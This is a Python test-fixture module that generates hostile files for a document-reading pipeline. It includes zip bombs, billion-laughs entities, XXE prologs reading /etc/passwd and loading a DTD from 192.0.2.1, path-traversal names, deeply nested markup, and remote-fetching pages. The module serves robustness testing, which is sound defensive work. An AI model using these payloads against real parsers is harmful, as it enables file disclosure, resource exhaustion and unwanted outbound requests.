"""Files that are made to hurt whoever opens them, all built here."""

from __future__ import annotations

import zipfile
from base64 import b64encode
from io import BytesIO
from typing import TYPE_CHECKING

from support import documents

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

SENTENCE = documents.PARAGRAPHS[0]
LINE = 60 * 2**20
"""The length of one line, in bytes, just below the size from which files are not opened."""
DEEP = 1_000_000
BOMB = 300 * 2**20
"""What a few hundred kilobytes unpack to."""

LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
) + "]>"  # fmt: skip
OUTSIDE = "<!DOCTYPE x [<!ENTITY a11 SYSTEM 'file:///etc/passwd'><!ENTITY % d SYSTEM 'http://192.0.2.1/d.dtd'>%d;]>"


def zipped(members: Mapping[str, bytes | str]) -> bytes:
    """An archive with these members."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def replaced(archive: bytes, name: str, content: bytes | str) -> bytes:
    """An archive with another content for one member."""
    with zipfile.ZipFile(BytesIO(archive)) as old:
        members: dict[str, bytes | str] = {info.filename: old.read(info) for info in old.infolist()}
    return zipped({**members, name: content})


def lying(archive: bytes, name: str) -> bytes:
    """An archive that says of one member that it has ten bytes."""
    with zipfile.ZipFile(BytesIO(archive)) as opened:
        size = opened.getinfo(name).file_size
    return archive.replace(size.to_bytes(4, "little"), (10).to_bytes(4, "little"))


def inside_itself(depth: int) -> bytes:
    """Archives in archives, with a text in the innermost."""
    data = zipped({"article.txt": SENTENCE})
    for level in range(depth):
        data = zipped({f"level-{level}.zip": data})
    return data


def many_pages(count: int) -> bytes:
    """A PDF of so many pages with one line each."""
    return documents.pdf(*([(60.0, 700.0, 10.0, f"Page {number} of the long report.")] for number in range(count)))


def deep_pdf() -> bytes:
    """A PDF whose page has an array in an array, and so on."""
    return documents.pdf(documents.lines(SENTENCE)).replace(b"/MediaBox [", b"/Deep " + b"[" * DEEP + b" /MediaBox [")


def deep_mail() -> bytes:
    """A message in a message in a message."""
    head = "MIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
    return ("From: a@example.org\nSubject: Deep\nDate: Mon, 3 Nov 2025 09:00:00 +0000\n" + head * 20_000).encode()


def many_parts() -> bytes:
    """A message of a hundred thousand parts."""
    head = "From: a@example.org\nSubject: Parts\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return (head + "--x\nContent-Type: text/plain\n\nword\n" * 100_000 + "--x--\n").encode()


def package(main: str) -> bytes:
    """A Word document with this XML as its text."""
    return replaced(documents.docx(("", SENTENCE)), "word/document.xml", main)


def _word(prolog: str, words: str) -> str:
    uri = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    start = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{uri}"><w:body><w:p><w:r><w:t>'
    return f"{start}{words}</w:t></w:r></w:p></w:body></w:document>"


def odt(content: str) -> bytes:
    """An OpenDocument text with this XML as its content."""
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def open_document(prolog: str, words: str) -> bytes:
    """An OpenDocument text of one paragraph, with a prolog before it."""
    office, text = (f"urn:oasis:names:tc:opendocument:xmlns:{part}:1.0" for part in ("office", "text"))
    start = f'<office:document-content xmlns:office="{office}" xmlns:text="{text}"><office:body><office:text>'
    end = "</office:text></office:body></office:document-content>"
    return odt(f'<?xml version="1.0"?>{prolog}{start}<text:p>{words}</text:p>{end}')


def epub(prolog: str, words: str, chapter: str = "one.xhtml") -> bytes:
    """A book of one chapter, with a prolog before the XML of each of its parts."""
    container = f"""<?xml version="1.0"?>{prolog}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"
        version="1.0"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles>
        </container>"""
    book = f"""<?xml version="1.0"?>{prolog}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/>
        <manifest><item id="a" href="{chapter}" media-type="application/xhtml+xml"/></manifest>
        <spine><itemref idref="a"/></spine></package>"""
    page = f'<?xml version="1.0"?>{prolog}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{words}</p></body></html>'
    parts = {"mimetype": "application/epub+zip", "META-INF/container.xml": container, "book.opf": book}
    return zipped({**parts, "one.xhtml": page})


def web_archive(prolog: str, words: str) -> bytes:
    """A page as Safari saves it, in XML."""
    page = b64encode(documents.page(f"<p>{SENTENCE * 3}</p>")).decode()
    resource = f"<dict><key>WebResourceData</key><data>{page}</data><key>WebResourceURL</key><string>{words}</string>"
    end = "<key>WebResourceMIMEType</key><string>text/html</string></dict>"
    start = f'<?xml version="1.0"?>{prolog}<plist version="1.0"><dict><key>WebMainResource</key>'
    return f"{start}{resource}{end}</dict></plist>".encode()


def page_of(prolog: str, words: str) -> bytes:
    """An XHTML page of one paragraph, with a prolog before it."""
    return f"{prolog.replace('x [', 'html [')}<html><body><p>{words} {SENTENCE}</p></body></html>".encode()


def saved_page(words: str) -> bytes:
    """A page with its parts, as browsers save it for mailing."""
    head = "From: <Saved by Blink>\nSnapshot-Content-Location: https://post.example/a\nMIME-Version: 1.0\n"
    kind = 'Content-Type: multipart/related; type="text/html"; boundary="x"\n\n'
    part = "--x\nContent-Type: text/html\nContent-Location: https://post.example/a\n\n"
    return f"{head}{kind}{part}<html><body>{words}</body></html>\n--x--\n".encode()


def rtf(words: str) -> bytes:
    """A Rich Text document."""
    return f"{{\\rtf1\\ansi {words}}}".encode()


STRANGE = "A\x00 null, an \x1b[31mescape\x1b[0m, a bell\x07, \u202eoverridden\u202c, \x85 and \x9b2J. " + SENTENCE * 40
TRAVERSING = (
    "../../outside.txt",
    "/outside.txt",
    "C:\\outside.txt",
    "a/../../outside.txt",
    "..\\outside.txt",
    "\x1b]0;a.txt",
)

READ: dict[str, tuple[str, Callable[[], bytes]]] = {
    "control characters": ("strange.txt", STRANGE.encode),
    "control characters in a page": ("strange.html", lambda: documents.page(f"<p>{STRANGE}</p>")),
    "control characters in subtitles": (
        "strange.srt",
        f"1\n00:00:01,000 --> 00:00:04,000\n{STRANGE}\n".encode,
    ),
    "lone surrogates": ("half.txt", lambda: (SENTENCE * 3).encode() + b"\xed\xa0\x80\xed\xb0\x80"),
    "lone surrogates in UTF-16": ("half.txt", lambda: b"\xff\xfe" + (SENTENCE * 9).encode("utf-16-le") + b"\x00\xd8"),
    "entities of surrogates": ("half.html", lambda: documents.page(f"<p>{SENTENCE} &#xD800; &#0; &#x202E;</p>" * 5)),
    "surrogates in Rich Text": ("half.rtf", lambda: rtf(f"{SENTENCE} \\u-10240? \\u0? \\u8238? {SENTENCE}")),
    "strange headers": (
        "strange.eml",
        f"From: \x1b[2J <a@b.example>\nSubject: =?utf-8?q?=00=1B=E2=80=AE?=\n\n{SENTENCE}".encode,
    ),
}
"""What becomes an article all the same: by its trouble, the name of the file and what makes it."""

HURT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a line of 60 MB": ("line.txt", lambda: (SENTENCE.encode() + b" ") * (LINE // (len(SENTENCE) + 1))),
    "a word of 60 MB": ("word.txt", lambda: b"a" * LINE),
    "a page of one line of 60 MB": ("line.html", lambda: documents.page(f"<p>{SENTENCE * (LINE // 100)}</p>")),
    "Markdown in one line of 60 MB": ("line.md", lambda: b"# A\n" + (SENTENCE.encode() + b" ") * (LINE // 100)),
    "Rich Text in one line of 60 MB": ("line.rtf", lambda: rtf(SENTENCE * (LINE // 100))),
    "a mail in one line of 60 MB": ("line.eml", lambda: b"From: a@b.example\nSubject: A\n\n" + b"word " * (LINE // 5)),
    "a document that unpacks to 300 MB": ("bomb.docx", lambda: package(" " * BOMB)),
    "a document that lies about its size": ("bomb.docx", lambda: lying(package(" " * BOMB), "word/document.xml")),
    "an OpenDocument text that unpacks to 300 MB": ("bomb.odt", lambda: odt(" " * BOMB)),
    "a book that unpacks to 300 MB": ("bomb.epub", lambda: epub("", " " * BOMB)),
    "an archive that unpacks to 300 MB": ("bomb.zip", lambda: zipped({"bomb.txt": " " * BOMB})),
    "archives in archives": ("nested.zip", lambda: inside_itself(200)),
    "an archive of 70,000 files": ("many.zip", lambda: zipped({f"{n}.txt": "" for n in range(70_000)})),
    "a billion laughs in a document": ("laughs.docx", lambda: package(_word(LAUGHS, "&a11;"))),
    "a billion laughs in an OpenDocument text": ("laughs.odt", lambda: open_document(LAUGHS, "&a11;")),
    "a billion laughs in a book": ("laughs.epub", lambda: epub(LAUGHS, f"&a11; {SENTENCE}")),
    "a billion laughs in a page": ("laughs.xhtml", lambda: page_of(LAUGHS, "&a11;")),
    "a billion laughs in a web archive": ("laughs.webarchive", lambda: web_archive(LAUGHS, "&a11;")),
    "an outside entity in a document": ("outside.docx", lambda: package(_word(OUTSIDE, f"&a11; {SENTENCE}"))),
    "an outside entity in an OpenDocument text": ("outside.odt", lambda: open_document(OUTSIDE, f"&a11; {SENTENCE}")),
    "an outside entity in a book": ("outside.epub", lambda: epub(OUTSIDE, f"&a11; {SENTENCE}")),
    "an outside entity in a page": ("outside.xhtml", lambda: page_of(OUTSIDE, "&a11;")),
    "an outside entity in a web archive": ("outside.webarchive", lambda: web_archive(OUTSIDE, "&a11;")),
    "a chapter outside of the book": ("outside.epub", lambda: epub("", SENTENCE, "../../../../etc/passwd")),
    "a page nested a million times": ("deep.html", lambda: documents.page("<div>" * DEEP + SENTENCE)),
    "lists nested a hundred thousand times": ("deep.html", lambda: documents.page("<ul><li>a" * 100_000 + SENTENCE)),
    "a saved page nested a million times": ("deep.mhtml", lambda: saved_page("<div>" * DEEP + SENTENCE)),
    "a document nested a million times": ("deep.docx", lambda: package(_word("", "<w:x>" * DEEP))),
    "an OpenDocument text nested a million times": ("deep.odt", lambda: open_document("", "<text:span>" * DEEP)),
    "a book nested a million times": ("deep.epub", lambda: epub("", "<div>" * DEEP + SENTENCE)),
    "Rich Text nested a million times": ("deep.rtf", lambda: rtf("{" * DEEP + SENTENCE + "}" * DEEP)),
    "Markdown nested a million times": ("deep.md", lambda: b"> " * DEEP + SENTENCE.encode()),
    "brackets nested 200,000 times": ("deep.md", lambda: b"[" * 200_000 + SENTENCE.encode() + b"]" * 200_000),
    "a mail in a mail in a mail": ("deep.eml", deep_mail),
    "a mail of a hundred thousand parts": ("parts.eml", many_parts),
    "a PDF nested a million times": ("deep.pdf", deep_pdf),
    "a PDF of 10,000 pages": ("long.pdf", lambda: many_pages(10_000)),
}
"""What may end in an article or in a reason, but must end."""

NETWORK = "http://192.0.2.1/fetched"
_FETCHING = f"""<!DOCTYPE html SYSTEM "{NETWORK}.dtd"><html><head><base href="{NETWORK}/"><title>A</title>
<link rel="stylesheet" href="{NETWORK}.css"><script src="{NETWORK}.js"></script>
<style>@import "{NETWORK}.css"; @font-face {{ font-family: f; src: url({NETWORK}.woff) }}</style>
<meta http-equiv="refresh" content="0;url={NETWORK}"></head><body background="{NETWORK}.png"><iframe src="{NETWORK}">
</iframe><img src="{NETWORK}.png"><svg><image href="{NETWORK}.svg"/></svg><object data="{NETWORK}"></object>
<p>{SENTENCE}</p><p>{documents.PARAGRAPHS[1]}</p></body></html>"""
_TEMPLATE = f"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="{NETWORK}.dotm" TargetMode="External"/></Relationships>"""

REFERRING: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a page": ("page.html", _FETCHING.encode),
    "a saved page": ("page.mhtml", lambda: saved_page(_FETCHING)),
    "a mail": ("page.eml", f"From: a@b.example\nSubject: A\nContent-Type: text/html\n\n{_FETCHING}".encode),
    "a web archive": ("page.webarchive", lambda: web_archive(f'<!DOCTYPE plist SYSTEM "{NETWORK}.dtd">', NETWORK)),
    "a book": ("book.epub", lambda: epub(f'<!DOCTYPE x SYSTEM "{NETWORK}.dtd">', f'<img src="{NETWORK}"/>{SENTENCE}')),
    "an OpenDocument text": ("text.odt", lambda: open_document(f'<!DOCTYPE x SYSTEM "{NETWORK}.dtd">', SENTENCE)),
    "a document": (
        "text.docx",
        lambda: replaced(documents.docx(("", SENTENCE)), "word/_rels/settings.xml.rels", _TEMPLATE),
    ),
    "Markdown": ("text.md", f"# A\n\n![a]({NETWORK}.png) {SENTENCE}\n\n<img src='{NETWORK}'>\n".encode),
    "Rich Text": ("text.rtf", lambda: rtf(f"{{\\field{{\\*\\fldinst INCLUDEPICTURE {NETWORK}}}}}{SENTENCE}")),
}
"""What refers to things in a network."""
